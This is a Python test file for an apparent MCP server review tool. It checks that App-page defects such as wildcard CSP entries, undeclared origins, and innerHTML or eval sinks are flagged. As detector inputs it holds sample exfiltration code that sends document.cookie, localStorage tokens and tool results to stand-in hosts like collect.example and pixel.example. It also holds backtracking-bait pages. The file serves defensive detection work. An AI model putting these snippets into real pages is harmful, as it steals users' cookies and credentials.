"""Pack `apps` and `review.declared-surfaces-reviewed` beyond one fixture per rule (issue 23).

Each mode of tests/servers/apps.py is reviewed once over real stdio (the runs are shared with tests/rules/test_rules.py
through its cache): every planted defect trips its rules and nothing else on the well-formed app, each variant of
a defect names what it plants, and the traps (the spec's own `window.parent.postMessage(msg, "*")`, a computed
`fetch(url)`, a script element) are never findings.
"""

from __future__ import annotations

import pytest

from mcp_review.checks.apps.page import covers, origin_of, read_page
from mcp_review.checks.apps.resources import entry_problem
from mcp_review.checks.apps.safety import posts_to_any, sinks
from tests.rules.cases import APP_GOOD, DOMAIN
from tests.rules.runs import Run, describe, findings, flagged, worst
from tests.support import PYTHON, ROOT, finish

APP = "ui://weather/app.html"
# mode -> the rules it may turn fail, warn or blocking on the well-formed app (and no other)
TRIPS = {
    "csp-wildcard": {"apps.csp-origins-only"},
    "csp-unsafe-inline": {"apps.csp-origins-only"},
    "csp-http": {"apps.csp-origins-only"},
    "csp-bare-scheme": {"apps.csp-origins-only"},
    "undeclared-script": {"apps.origins-declared"},
    "undeclared-fetch": {"apps.origins-declared"},
    "undeclared-socket": {"apps.origins-declared"},
    "unused-origin": {"apps.origins-used"},
    "unjustified-camera": {"apps.permissions-justified"},
    "unexplained-camera": {"apps.permissions-justified"},
    # the page no tool names any more asks for geolocation with nothing to explain it
    "dangling-uri": {"apps.resource-resolves", "apps.permissions-justified"},
    "wrong-mime": {"apps.resource-resolves"},
    "exfiltration": {"apps.origins-declared", "apps.page-safe"},  # the data goes to an undeclared origin
    "many-acts": {"apps.csp-origins-only", "apps.page-safe"},  # the wildcard, and what the page does under it
    "post-star": {"apps.page-safe"},
    "inner-html": {"apps.page-safe"},
    "eval-result": {"apps.page-safe"},
    "app-only-offered": {"apps.visibility-honest"},
    "no-domain": {"apps.domain-set"},
    "heavy": {"apps.cost", "tokens.output-budget"},  # the same large result is over the tokens pack's 8 KB
    # the skills extension is declared and none of it served: spec.skills-methods judges it (issue 24)
    "surfaces": {"review.declared-surfaces-reviewed", "spec.skills-methods"},
    "flood": {"review.declared-surfaces-reviewed"},
}
# mode -> (rule, status, subject, fragment) of the finding that names the planted defect
NAMES = {
    "csp-unsafe-inline": ("apps.csp-origins-only", "fail", APP, "\"'unsafe-inline'\" is a CSP keyword"),
    "csp-http": ("apps.csp-origins-only", "fail", APP, "'http://api.weather.example' is plain http"),
    "csp-bare-scheme": ("apps.csp-origins-only", "fail", APP, "'https:' is a bare scheme"),
    "undeclared-fetch": ("apps.origins-declared", "fail", APP, "connect https://tracker.example is not in"),
    "undeclared-socket": ("apps.origins-declared", "fail", APP, 'new WebSocket("wss://live.example/feed"'),
    "unexplained-camera": ("apps.permissions-justified", "warn", APP, "camera: used by the page, but the purpose"),
    "wrong-mime": ("apps.resource-resolves", "fail", "show_weather", "answers MIME type 'text/html'"),
    "post-star": ("apps.page-safe", "fail", APP, "posts to '*' at map.contentWindow"),
    "many-acts": (
        "apps.page-safe",
        "fail",
        APP,
        "sends document.cookie, tool data to https://collect.example, which its CSP lets through only by '*'",
    ),
    "inner-html": ("apps.page-safe", "fail", APP, "tool data reaches innerHTML"),
    "eval-result": ("apps.page-safe", "fail", APP, "tool data reaches eval"),
}
SURFACES = {
    "capabilities.extensions.com.example/holograms",
    "capabilities.experimental.com.example/beta",
    "_meta.openai/fileParams",
    "_meta.ui.sandbox",
}


def _apps(run: Run) -> dict[str, list]:
    return {rule: items for rule, items in findings(run).items() if rule.startswith("apps.") or "declared" in rule}


@pytest.mark.parametrize("mode", sorted(TRIPS))
def test_a_planted_app_defect_trips_only_its_rules(mode):
    assert flagged(Run(("apps", mode))) - flagged(APP_GOOD) == TRIPS[mode]


@pytest.mark.parametrize("mode", sorted(NAMES))
def test_each_variant_names_its_defect(mode):
    rule, status, subject, fragment = NAMES[mode]
    items = findings(Run(("apps", mode)))[rule]
    assert worst(items) == status, describe(items)
    assert [f for f in items if f.status == status and f.subject == subject and fragment in f.message], describe(items)


@pytest.mark.parametrize("run", [APP_GOOD, Run(("apps", "openai")), Run(("apps", "well-formed"), http="--http")])
def test_a_well_formed_app_passes_every_apps_rule(run):
    """MCP Apps keys and the older OpenAI Apps SDK keys alike, over stdio and HTTP. apps.preview needs --preview
    (a browser): without it, it is blocking and names the flag (its own tests in test_rules.py)."""
    for rule, items in _apps(run).items():
        expected = "blocking" if rule == "apps.preview" else "pass"
        assert worst(items) == expected, f"{rule}: {describe(items)}"


def test_an_app_page_never_fails_for_its_scripts():
    """The page is an HTML document with a script element: review.descriptions-grounded judges only secrets there,
    and review.results-safe in a page a result embeds (refresh_weather's, as MCP-UI embeds them)."""
    page = [f for f in findings(APP_GOOD)["review.descriptions-grounded"] if f.subject == APP]
    assert page and worst(page) == "pass", describe(page)
    card = [f for f in findings(APP_GOOD)["review.results-safe"] if f.subject == "refresh_weather"]  # embedded
    assert card and worst(card) == "pass", describe(card)


def test_every_unreviewed_surface_is_one_blocking_finding():
    items = findings(Run(("apps", "surfaces")))["review.declared-surfaces-reviewed"]
    blocking = [f for f in items if f.status == "blocking"]
    assert {f.subject for f in blocking} == SURFACES, describe(items)
    assert all("mcp-review does not review it" in f.message and f.evidence for f in blocking)
    judged = {f.subject for f in items if f.status == "pass"}
    assert {"capabilities.tools", "capabilities.extensions.io.modelcontextprotocol/ui", "_meta.ui.csp"} <= judged
    assert "capabilities.extensions.io.modelcontextprotocol/skills" in judged  # by the spec.skills-* rules


def test_a_flood_of_declared_surfaces_is_counted_not_listed():
    items = findings(Run(("apps", "flood")))["review.declared-surfaces-reviewed"]
    assert len(items) == 51, describe(items)
    counted = [f for f in items if f.subject == "more surfaces"]
    assert counted and counted[0].status == "blocking" and "more declared surfaces not judged" in counted[0].message


def test_a_server_with_nothing_app_like_is_not_applicable():
    for rule, items in _apps(DOMAIN).items():
        if rule.startswith("apps."):
            assert worst(items) == "n/a", f"{rule}: {describe(items)}"


# ---- the page analysis, on literal pages ------------------------------------------------------------------


def test_origins_and_csp_entries():
    assert origin_of("https://a.example:8443/x?y") == "https://a.example:8443"
    assert origin_of("//cdn.example/lib.js") == "https://cdn.example"
    assert origin_of("/local.js") is None and origin_of("data:image/png;base64,AA") is None
    assert covers("https://*.example.com", "https://cdn.example.com")
    assert not covers("https://*.example.com", "https://example.com")
    assert covers("https://api.example", "wss://api.example") and not covers("https://a.example", "https://b.example")
    assert not covers("https://api.example:8443", "https://api.example")
    assert covers("*", "https://anything.example")  # a wildcard allows it: csp-origins-only fails the wildcard
    problems = {e: entry_problem(e) for e in ("*", "'self'", "https:", "cdn.example", "http://a.example")}
    assert all(p and p[0] == "fail" for p in problems.values()), problems
    assert entry_problem("https://*.example.com") is None and entry_problem("wss://live.example") is None
    assert entry_problem("https://a.example/path") == ("warn", entry_problem("https://a.example/path")[1])


def test_the_bridge_and_computed_requests_are_not_findings():
    """What the official ext-apps bundles do: post to the host at '*' (the spec's bridge), fetch a computed URL
    (Vite's modulepreload polyfill), write a constant into innerHTML."""
    code = 'this.eventTarget.postMessage(t,"*");window.parent.postMessage(m, "*");fetch(s.href,i);o.innerHTML="";'
    assert not list(sinks(code)) and not list(posts_to_any(code))
    assert read_page(f"<script>{code}</script>").reaches == []


def test_a_page_is_read_from_markup_styles_and_code():
    page = (
        '<link rel="stylesheet" href="https://css.example/a.css"><img srcset="https://img.example/1x.png 1x">'
        "<style>body{background:url(https://bg.example/b.png)}</style>"
        '<script>navigator.sendBeacon("https://beacon.example/b", data);'
        "new Image().src = 'https://pixel.example/p?d=' + secret;</script>"
    )
    reached = {(r.kind, r.origin, r.sends) for r in read_page(page).reaches}
    assert reached == {
        ("resource", "https://css.example", False),
        ("resource", "https://img.example", False),
        ("resource", "https://bg.example", False),
        ("connect", "https://beacon.example", True),
        ("resource", "https://pixel.example", True),
    }


# Pages built to make a reader backtrack, each about 1 MB: read in linear time, they take a fraction of a second; a
# reader quadratic in them would take hours. How long they take is bench/pages.py's figure, not a test's.
HOSTILE_PAGES = """
from mcp_review.checks.apps.page import read_page
from mcp_review.checks.apps.safety import posts_to_any, sinks
chain = "a." * 500_000 + "postMessage(x, '*');"
assert [h.severity for h in posts_to_any(chain)] == []  # a chain of names is no window the code opened
assert not read_page("<script>" + "fetch(" * 200_000 + "</script>").reaches
assert [h.severity for h in sinks("x.innerHTML = data;" * 100_000)][-1] == "blocking"  # the rest is not read
"""


def test_a_hostile_page_is_read_without_backtracking():
    """Read in a process of its own, so a reader that backtracks fails the test (a hang bound at this machine's
    pace, tests/pace.py) instead of holding the suite's worker."""
    done = finish([PYTHON, "-c", HOSTILE_PAGES], 60, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-2000:]


def test_suggestive_sinks_warn_and_proven_ones_fail():
    assert [h.severity for h in sinks("el.innerHTML = response.body;")] == ["warn"]
    assert [h.severity for h in sinks("el.innerHTML = window.openai.toolOutput.html;")] == ["fail"]
    assert [h.severity for h in sinks("new Function(code)")] == ["warn"]
    assert [h.severity for h in posts_to_any("window.opener.postMessage(data, '*')")] == ["fail"]


def test_every_unsafe_act_of_a_page_is_named_with_its_quote():
    """Issue 37: a page that writes tool data into innerHTML and also posts the user's cookie and the tool result to
    an origin it never declares (a wildcard connectDomains lets it through) gets both acts named, each quoted: what
    it sends, to which origin, and how."""
    (finding,) = findings(Run(("apps", "many-acts")))["apps.page-safe"]
    assert finding.status == "fail"
    assert (
        "tool data reaches innerHTML" in finding.message and ".innerHTML = result.structuredContent" in finding.message
    )
    assert "sends document.cookie, tool data to https://collect.example" in finding.message
    assert 'fetch(sink, { method: "POST", body: JSON.stringify({ c: document.cookie' in finding.message


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ('new Image().src = "https://pixel.example/p?c=" + document.cookie;', "sends data with document.cookie"),
        ('location.href = "https://collect.example/?d=" + result.structuredContent.city;', "navigates to"),
        ('const u = "https://collect.example/x"; navigator.sendBeacon(u, localStorage.token);', "the page's storage"),
    ],
)
def test_what_a_send_carries_is_named(code, said):
    from mcp_review.apps import Page
    from mcp_review.checks.apps.origins import sends

    page = Page("ui://x/app.html", None, html=f"<script>{code}</script>")
    assert any(said in line for line in sends(page)), list(sends(page))
